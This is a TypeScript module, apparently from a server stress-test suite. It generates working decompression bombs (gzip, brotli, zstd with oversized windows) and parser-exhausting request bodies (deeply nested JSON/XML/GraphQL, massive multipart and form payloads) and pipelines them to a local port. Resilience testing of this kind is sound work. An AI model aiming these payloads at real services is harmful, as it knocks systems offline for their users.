/** Bodies that describe megabytes, or seconds of work: a few hundred bytes that decode to much, and text that is hard to search. */
import * as zlib from 'node:zlib';
import { type Attack, say } from './speak.js';

interface Post {
  /** Made when it is needed. */
  readonly body: () => Buffer;
  readonly times: number;
  readonly type?: string;
  readonly coding?: string;
  /** Requests on each connection, one behind the other. */
  readonly pipelined?: number;
}

const MIB = 2 ** 20;
const zeros = (bytes = 100 * MIB): Buffer => Buffer.alloc(bytes);

const CODED: readonly Attack[] = [
  posting('100 gzip bombs of 10 MB', { body: () => zlib.gzipSync(zeros(10_000_000)), times: 100, coding: 'gzip' }),
  posting('100 bombs of gzip in gzip', {
    body: () => zlib.gzipSync(zlib.gzipSync(zeros())),
    times: 100,
    coding: 'gzip, gzip',
  }),
  posting('100 bombs of five codings', {
    body: () => [1, 2, 3, 4, 5].reduce((bytes) => zlib.gzipSync(bytes), zeros()),
    times: 100,
    coding: 'gzip, gzip, gzip, gzip, gzip',
  }),
  posting('100 br bombs of 100 MB', { body: () => brotli({}), times: 100, coding: 'br' }),
  posting('100 br bodies with a window of 1 GiB', {
    body: () => brotli({ [zlib.constants.BROTLI_PARAM_LARGE_WINDOW]: 1, [zlib.constants.BROTLI_PARAM_LGWIN]: 30 }),
    times: 100,
    coding: 'br',
  }),
  posting('100 zstd bombs', { body: () => zstd(0x50, 400, 120_000), times: 100, coding: 'zstd' }),
  // Exponent 21 of RFC 8878 §3.1.1.1.2.
  posting('100 zstd bodies with a window of 2 GiB', {
    body: () => zstd(21 << 3, 400, 120_000),
    times: 100,
    coding: 'zstd',
  }),
  posting('100 zstd bodies of tiny blocks', { body: () => zstd(0x50, 100_000, 1), times: 100, coding: 'zstd' }),
  posting('100 bombs of br in gzip', { body: () => zlib.gzipSync(brotli({})), times: 100, coding: 'br, gzip' }),
  posting('100 bombs of gzip in deflate in br', {
    body: () => zlib.brotliCompressSync(zlib.deflateSync(zlib.gzipSync(zeros()))),
    times: 100,
    coding: 'gzip, deflate, br',
  }),
  posting('100 bombs of zstd in gzip', {
    body: () => zlib.gzipSync(zstd(0x50, 400, 120_000)),
    times: 100,
    coding: 'zstd, gzip',
  }),
  posting('100 bombs that no header names', { body: () => zlib.gzipSync(zeros()), times: 100 }),
  posting('2,000 bodies of 32 KiB that decode to 32 MiB', {
    body: () => zlib.gzipSync(zeros(32 * MIB)),
    times: 100,
    pipelined: 20,
    coding: 'gzip',
  }),
  posting('10,000 bodies of 64 bytes that decode to 50 KiB', {
    body: () => zlib.gzipSync(zeros(50 << 10)),
    times: 100,
    pipelined: 100,
    coding: 'gzip',
  }),
];

const TEXTS: readonly Attack[] = [
  posting('a multipart head of spaces', {
    body: () => filled(`--X\r\ncontent-type: x${' '.repeat(16_000)}y\r\n\r\nz\r\n`, 300_000),
    times: 3,
    type: 'multipart/form-data; boundary=X',
  }),
  posting('strings that begin like documents', {
    body: () => Buffer.concat([Buffer.from('["password",'), filled('"{",', 300_000)]),
    times: 3,
  }),
  posting('quotes that do not end', { body: () => quotes(300_000), times: 3, type: 'text/plain' }),
  posting('quotes that do not end, 300 in a row of 60 KB', {
    body: () => quotes(60_000),
    times: 10,
    pipelined: 30,
    type: 'text/plain',
  }),
  posting('10 documents of 10 MB', {
    body: () => filled('{"user":"ann","password":"p","text":"lorem ipsum dolor sit amet"},', 10_000_000),
    times: 10,
  }),
  posting('20 times 2 MB of control characters', {
    body: () => Buffer.alloc(2_000_000),
    times: 20,
    type: 'text/plain',
  }),
  posting('5 documents nested 500,000 deep', {
    body: () => Buffer.concat([Buffer.from('{"password":1,"a":'), filled('[', 500_000)]),
    times: 5,
  }),
  posting('5 documents with 100,000 names', { body: () => names((name) => `"${name}token":1,`, '{'), times: 5 }),
  posting('5 forms with 500,000 pairs', {
    body: () => filled('a=%7B&', 3_000_000),
    times: 5,
    type: 'application/x-www-form-urlencoded',
  }),
  posting('5 multipart bodies with 100,000 parts', {
    body: () => filled('--X\r\nA: b\r\n\r\nc\r\n', 1_700_000),
    times: 5,
    type: 'multipart/form-data; boundary=X',
  }),
  posting('5 multipart bodies with a boundary of 60 KB', {
    body: () => filled(`--${'X'.repeat(60_000)}\r\nA: b\r\n\r\nc\r\n`, 3_000_000),
    times: 5,
    type: `multipart/form-data; boundary=${'X'.repeat(60_000)}`,
  }),
  posting('5 multipart bodies that begin the boundary at each byte', {
    body: () => filled('\r\n--XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXY', 3_000_000),
    times: 5,
    type: `multipart/form-data; boundary=${'X'.repeat(65)}`,
  }),
  posting('5 documents of one string of 5 MB in escapes', {
    body: () => Buffer.concat([Buffer.from('{"password":"'), filled('\\u0041', 5_000_000), Buffer.from('"}')]),
    times: 5,
  }),
  posting('5 documents of a number of 3 MB', {
    body: () => Buffer.concat([Buffer.from('{"password":'), filled('1234567890', 3_000_000)]),
    times: 5,
  }),
  posting('5 GraphQL documents nested 500,000 deep', {
    body: () => Buffer.concat([Buffer.from('{"query":"'), filled('{a', 1_000_000), Buffer.from('"}')]),
    times: 5,
  }),
  posting('2,000 documents of 30 KB in a row', {
    body: () => filled('{"user":"ann","password":"p","text":"lorem ipsum dolor sit amet"},', 30_000),
    times: 20,
    pipelined: 100,
  }),
  posting('5 XML documents nested 300,000 deep', {
    body: () => Buffer.concat([Buffer.from('<password>1</password>'), filled('<a>', 1_000_000)]),
    times: 5,
    type: 'application/xml',
  }),
  posting('5 times base64 in base64, 20 deep', { body: nestedBase64, times: 5 }),
  posting('5 documents in strings of documents, 12 deep', { body: nestedJson, times: 5 }),
  posting('5 GraphQL queries with 50,000 aliases', {
    body: () =>
      Buffer.from(JSON.stringify({ query: `{${names((name) => `${name}: login(password: "p") {id} `, '')}}` })),
    times: 5,
  }),
];

export const BODIES: readonly Attack[] = [...CODED, ...TEXTS];

function posting(name: string, { body, times, pipelined = 1, type = 'application/json', coding }: Post): Attack {
  return {
    name,
    async run(port) {
      const bytes = body();
      const head = `POST /attack HTTP/1.1\r\nHost: a\r\nContent-Type: ${type}\r\n${coding === undefined ? '' : `Content-Encoding: ${coding}\r\n`}Content-Length: ${bytes.length}\r\n\r\n`;
      const request = Buffer.concat([Buffer.from(head), bytes]);
      await say(port, times, Buffer.concat(Array.from({ length: pipelined }, () => request)));
    },
  };
}

/** Of 100 MiB, in little time. */
function brotli(params: Record<number, number>): Buffer {
  return zlib.brotliCompressSync(zeros(), { params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 2, ...params } });
}

function filled(text: string, bytes: number): Buffer {
  return Buffer.alloc(bytes, text);
}

function quotes(bytes: number): Buffer {
  return Buffer.concat([Buffer.from("password='"), filled('"?token=a" ', bytes), Buffer.from("'")]);
}

function names(entry: (name: string) => string, head: string): Buffer {
  let text = head;
  for (let i = 0; i < 100_000; i++) text += entry(`a${i.toString(36)}`);
  return Buffer.from(text);
}

function nestedBase64(): Buffer {
  let text = '{"password":"p"}';
  for (let i = 0; i < 20; i++) text = JSON.stringify({ data: Buffer.from(text).toString('base64') });
  return Buffer.from(`[${Array.from({ length: 100 }, () => text).join(',')}]`);
}

function nestedJson(): Buffer {
  let text = '{"token":"x"}';
  for (let i = 0; i < 12; i++) text = JSON.stringify({ a: text });
  return filled(`${text},`, 2_000_000);
}

/** A frame with that window descriptor, of blocks that each repeat one byte (RFC 8878 §3.1.1.2). */
function zstd(window: number, blocks: number, blockBytes: number): Buffer {
  const parts = [Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0, window])];
  for (let i = 0; i < blocks; i++) {
    const block = Buffer.from([0, 0, 0, 0x78]);
    block.writeUIntLE((blockBytes << 3) | (1 << 1) | (i === blocks - 1 ? 1 : 0), 0, 3);
    parts.push(block);
  }
  return Buffer.concat(parts);
}
